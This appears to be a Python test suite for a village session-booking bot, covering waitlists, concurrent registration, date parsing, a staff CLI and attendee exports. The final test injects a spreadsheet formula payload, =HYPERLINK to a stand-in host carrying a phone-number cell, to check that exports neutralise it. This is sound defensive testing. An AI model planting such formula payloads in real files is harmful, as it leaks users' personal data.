"""Sessions: capacity, waitlist and booking codes against the real SQLite file."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from auxil.processes import desabot
from auxil.sessions import a_session as shared_session
from bot.domain.people import touch_person
from bot.domain.registrations import (
    attendees,
    cancel_registration,
    check_in,
    register,
)
from bot.domain.sessions import (
    CODE_ALPHABET,
    SessionError,
    cancel_session,
    create_session,
    edit_session,
    get_session,
    parse_local,
    upcoming_sessions,
)
from bot.reports.files import registrants_csv
from conftest import write_config

WITA = ZoneInfo("Asia/Makassar")
SOON = datetime.now(UTC) + timedelta(days=7)


async def a_session(db, capacity: int = 2, starts: datetime = SOON, village: str = "Langaleso"):
    return await shared_session(
        db, title_en="Safe migration talk", capacity=capacity, village=village, starts=starts,
        hours=3,
    )  # fmt: skip


async def people(db, count: int) -> list[int]:
    return [(await touch_person(db, "test", str(n), f"Warga {n}", "id")).id for n in range(count)]


async def test_a_new_session_gets_a_short_code_without_look_alike_letters(db):
    session = await a_session(db)
    assert len(session.code) == 4
    assert set(session.code) <= set(CODE_ALPHABET)
    assert not set("0O1IL2Z5S8B6G") & set(CODE_ALPHABET)
    assert (await get_session(db, session.code.lower())).id == session.id  # typed in lower case


async def test_full_session_waitlists_in_order_and_a_cancellation_promotes_the_first(db):
    session = await a_session(db, capacity=2)
    ids = await people(db, 4)
    results = [await register(db, session.code, person) for person in ids]
    assert [r.status for r in results] == ["confirmed", "confirmed", "waitlisted", "waitlisted"]
    assert [r.waitlist_position for r in results] == [None, None, 1, 2]
    assert all(len(r.booking_code) == 6 for r in results)
    cancelled, promoted = await cancel_registration(db, results[0].booking_code, ids[0])
    assert cancelled.status == "cancelled"
    assert promoted is not None and promoted.booking_code == results[2].booking_code
    assert promoted.status == "confirmed"
    fourth = [
        a for a in await attendees(db, session.code) if a.booking_code == results[3].booking_code
    ]
    assert fourth[0].waitlist_position == 1


async def test_registering_twice_changes_nothing(db):
    session = await a_session(db)
    [person] = await people(db, 1)
    first = await register(db, session.code, person)
    again = await register(db, session.code, person)
    assert again.already and again.booking_code == first.booking_code
    assert (await get_session(db, session.code)).confirmed == 1


async def test_a_villager_cannot_cancel_someone_elses_booking(db):
    session = await a_session(db)
    owner, other = await people(db, 2)
    booking = await register(db, session.code, owner)
    with pytest.raises(SessionError) as caught:
        await cancel_registration(db, booking.booking_code, other)
    assert caught.value.reason == "unknown_booking"


async def test_more_seats_confirm_the_waitlist_and_check_in_counts_attendance(db):
    session = await a_session(db, capacity=1)
    ids = await people(db, 3)
    bookings = [await register(db, session.code, p) for p in ids]
    edited = await edit_session(db, session.code, capacity=2)
    assert (edited.confirmed, edited.waitlisted) == (2, 1)
    attended = await check_in(db, bookings[0].booking_code)
    assert attended.status == "attended"
    with pytest.raises(SessionError, match="waitlisted, not confirmed"):
        await check_in(db, bookings[2].booking_code)


@pytest.mark.parametrize(
    ("kwargs", "reason"),
    [
        ({"capacity": 0}, "bad_capacity"),
        ({"capacity": -5}, "bad_capacity"),
        ({"starts": datetime.now(UTC) - timedelta(days=1)}, "in_past"),
    ],
)
async def test_bad_sessions_are_refused_and_nothing_is_stored(db, kwargs, reason):
    with pytest.raises(SessionError) as caught:
        await a_session(db, **kwargs)
    assert caught.value.reason == reason
    assert await upcoming_sessions(db) == []


async def test_an_end_before_the_start_is_refused(db):
    with pytest.raises(SessionError, match="must end after it starts"):
        await create_session(
            db, title_id="x", title_en="", village="v", place="p",
            starts=SOON, ends=SOON - timedelta(hours=1), capacity=5,
        )  # fmt: skip


def test_dates_are_read_as_staff_write_them_and_a_bad_one_is_named():
    nine = datetime(2026, 12, 5, 9, 0, tzinfo=WITA)
    for text in ("2026-12-05 09:00", "5/12/2026 9.00", "5 Desember 2026 jam 9"):
        assert parse_local(text, WITA, "--start") == nine, text
    assert parse_local("2026-12-05 09:00", WITA, "--start").utcoffset() == timedelta(hours=8)
    with pytest.raises(SessionError, match=r"--start: expected a date and time such as"):
        parse_local("besok pagi", WITA, "--start")
    with pytest.raises(SessionError, match=r"--start: .* got '2026-12-05'"):
        parse_local("2026-12-05", WITA, "--start")  # a day without its time


async def test_unknown_codes_cancelled_and_started_sessions_are_refused(db):
    [person] = await people(db, 1)
    with pytest.raises(SessionError) as caught:
        await register(db, "QQQQ", person)
    assert caught.value.reason == "unknown_session"
    session = await a_session(db)
    await cancel_session(db, session.code)
    with pytest.raises(SessionError) as caught:
        await register(db, session.code, person)
    assert caught.value.reason == "cancelled"
    later = await a_session(db)
    with pytest.raises(SessionError) as caught:
        await register(db, later.code, person, now=later.starts_at + timedelta(minutes=1))
    assert caught.value.reason == "in_past"


async def test_the_last_seat_500_villagers_at_once_on_50_seats(db):
    session = await a_session(db, capacity=50)
    ids = await people(db, 500)
    results = await asyncio.gather(*(register(db, session.code, p) for p in ids))
    statuses = [r.status for r in results]
    assert statuses.count("confirmed") == 50
    assert statuses.count("waitlisted") == 450
    rows = await attendees(db, session.code)
    assert len(rows) == 500 and len({r.booking_code for r in rows}) == 500
    # arrival order: the database ids follow the order the writes got the lock, and the
    # first 50 of them hold the seats; the waitlist numbers run 1..450 in that order
    assert [r.status for r in rows[:50]] == ["confirmed"] * 50
    assert [r.waitlist_position for r in rows[50:]] == list(range(1, 451))


def test_staff_cli_adds_lists_edits_exports_and_cancels(tmp_path):
    config = write_config(tmp_path)
    start = (datetime.now(WITA) + timedelta(days=3)).strftime("%Y-%m-%d 09:00")
    end = start.replace("09:00", "12:00")
    added = desabot(
        config, "sessions", "add", "--title", "Hari layanan paspor", "--village", "Sibowi",
        "--place", "Kantor desa", "--start", start, "--end", end, "--capacity", "30",
    )  # fmt: skip
    assert added.returncode == 0, added.stderr
    code = added.stdout.strip()
    assert len(code) == 4
    listed = desabot(config, "sessions", "list")
    assert f"{code}  {start}-12:00  scheduled  0/30 seats" in listed.stdout
    edited = desabot(config, "sessions", "edit", code, "--capacity", "40", "--place", "Balai desa")
    assert "0/40 seats" in edited.stdout and "Balai desa" in edited.stdout
    later = datetime.now(WITA) + timedelta(days=4)
    moved = desabot(config, "sessions", "edit", code, "--start", later.strftime("%d/%m/%Y 10.30"))
    assert f"{later:%Y-%m-%d} 10:30-13:30" in moved.stdout, moved.stderr  # the end moved along
    exported = desabot(config, "sessions", "attendees", code, "--csv")
    lines = list(csv.reader(io.StringIO(exported.stdout.removeprefix("\ufeff"))))
    assert exported.stdout.startswith("\ufeff")  # a spreadsheet reads it as UTF-8
    assert lines[0] == ["Sesi", "Hari layanan paspor"] and lines[3] == ["Kode", code]
    assert lines[-1] == ["No", "Nama", "Desa", "No. HP", "Kode booking", "Status", "Waktu hadir"]
    sheet = tmp_path / "peserta.xlsx"
    written = desabot(config, "sessions", "attendees", code, "--xlsx", str(sheet))
    assert written.returncode == 0 and "0 registration(s)" in written.stderr
    assert openpyxl.load_workbook(sheet).active["B1"].value == "Hari layanan paspor"
    cancelled = desabot(config, "sessions", "cancel", code)
    assert "cancelled" in cancelled.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["edit", "QQQQ", "--capacity", "3"], "no session with code 'QQQQ'"),
        (["checkin", "ZZZZZZ"], "no booking with code 'ZZZZZZ'"),
        (
            ["add", "--title", "t", "--village", "v", "--place", "p", "--start", "2026-13-01 09:00",
             "--end", "2026-13-01 10:00", "--capacity", "5"],
            "--start: expected a date and time such as 2026-12-14 09:00 or 14/12/2026 09.00,"
            " got '2026-13-01 09:00'",
        ),
    ],
)  # fmt: skip
def test_staff_cli_errors_are_one_clear_line(tmp_path, args, message):
    result = desabot(write_config(tmp_path), "sessions", *args)
    assert result.returncode == 1
    assert message in result.stderr
    assert "Traceback" not in result.stderr


async def test_seats_go_in_the_order_the_requests_were_made(db):
    session = await a_session(db, capacity=10)
    ids = await people(db, 40)
    results = await asyncio.gather(*(register(db, session.code, p) for p in ids))
    assert [r.status for r in results] == ["confirmed"] * 10 + ["waitlisted"] * 30
    assert [r.waitlist_position for r in results[10:]] == list(range(1, 31))


async def test_a_booking_in_a_cancelled_session_cannot_be_cancelled_into_a_promotion(db):
    session = await a_session(db, capacity=1)
    first, second = await people(db, 2)
    booking = await register(db, session.code, first)
    await register(db, session.code, second)
    await cancel_session(db, session.code)
    with pytest.raises(SessionError) as caught:
        await cancel_registration(db, booking.booking_code, first)
    assert caught.value.reason == "session_closed"
    promoted = await db.fetchall("SELECT 1 FROM outbox WHERE text_key = 'notice_promoted'")
    assert promoted == []


async def test_a_new_start_moves_the_end_unless_a_new_end_is_given(db):
    session = await a_session(db)  # three hours long
    later = session.starts_at + timedelta(days=1, hours=2)
    moved = await edit_session(db, session.code, starts=later)
    assert (moved.starts_at, moved.ends_at) == (later, later + timedelta(hours=3))
    back = session.starts_at
    both = await edit_session(db, session.code, starts=back, ends=back + timedelta(hours=1))
    assert (both.starts_at, both.ends_at) == (back, back + timedelta(hours=1))
    longer = await edit_session(db, session.code, ends=back + timedelta(hours=5))
    assert (longer.starts_at, longer.ends_at) == (back, back + timedelta(hours=5))


async def test_capacity_zero_on_edit_is_refused(db):
    session = await a_session(db, capacity=5)
    with pytest.raises(SessionError) as caught:
        await edit_session(db, session.code, capacity=0)
    assert caught.value.reason == "bad_capacity"
    assert (await get_session(db, session.code)).capacity == 5


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_an_exported_cell_never_opens_as_a_formula(db, start):
    """A village typed as =HYPERLINK(...) would open as a live link carrying the next
    villager's phone number: every cell that starts like a formula is kept text."""
    from bot.domain.people import update_profile

    session = await a_session(db, capacity=5)
    [person] = await people(db, 1)
    village = f'{start}HYPERLINK("http://x/?"&C3,"Klik")'
    await update_profile(
        db, person, full_name=f"{start}Budi", village=village, phone="+6281234567890"
    )
    await register(db, session.code, person)
    content = registrants_csv(session, await attendees(db, session.code), "id", WITA)
    *_, header, row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert header[:4] == ["No", "Nama", "Desa", "No. HP"]
    assert row[1] == f"'{start}Budi" and row[2] == f"'{village}"
    assert row[3] == "'+6281234567890"  # the phone number stays text, not a sum
    assert row[4].isalnum() and row[5] == "terdaftar"
